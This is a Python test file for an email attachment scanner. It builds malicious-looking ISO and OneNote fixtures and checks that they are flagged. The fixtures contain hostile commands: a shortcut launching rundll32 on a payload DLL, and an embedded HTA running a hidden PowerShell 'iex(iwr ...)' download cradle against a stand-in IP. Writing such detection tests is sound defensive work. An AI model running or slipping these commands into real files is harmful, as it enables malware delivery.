from __future__ import annotations

import io
import struct

import pycdlib

from tap_core.attachments.engine import AttachmentEngine
from tap_core.model.findings import Verdict
from tests.attachments.builders import make_lnk


def _iso(files: dict[str, bytes]) -> bytes:
    iso = pycdlib.PyCdlib()
    iso.new(joliet=3)
    for index, (name, data) in enumerate(files.items()):
        iso.add_fp(io.BytesIO(data), len(data), f"/FILE{index}.;1", joliet_path=f"/{name}")
    out = io.BytesIO()
    iso.write_fp(out)
    iso.close()
    return out.getvalue()


def test_iso_with_shortcut(engine: AttachmentEngine) -> None:
    lnk = make_lnk(r"C:\Windows\System32\cmd.exe", "/c start rundll32 payload.dll,DllRegisterServer")
    result = engine.scan("Invoice_2024.iso", _iso({"Invoice.lnk": lnk, "readme.txt": b"open the invoice"}))
    assert result.type == "iso"
    assert sorted(c.name for c in result.children) == ["Invoice.lnk", "readme.txt"]
    assert {"dangerous_type", "container_with_executable", "yara_disk_image_with_shortcut"} <= set(
        result.reasons
    )
    assert result.verdict is Verdict.MALICIOUS


def test_onenote_embedded_hta(engine: AttachmentEngine) -> None:
    hta = b'<html><head><HTA:APPLICATION id="a"></head><script language="VBScript">'
    hta += b'CreateObject("WScript.Shell")'
    hta += b'.Run "powershell -w hidden -c iex(iwr http://198.51.100.9/x)"</script></html>'
    store = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + struct.pack("<QIQ", len(hta), 0, 0) + hta
    store += bytes.fromhex("22a7fb71796b4e4bb83e0b3e03f8e4b6")  # footer GUID
    section = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + b"\0" * 200 + store + b"\0" * 64
    result = engine.scan("Document.one", section)
    assert result.type == "one"
    assert {"onenote_embedded_file", "yara_onenote_embedded_runnable"} <= set(result.reasons)
    assert result.children[0].type == "hta"
    assert result.verdict is Verdict.MALICIOUS
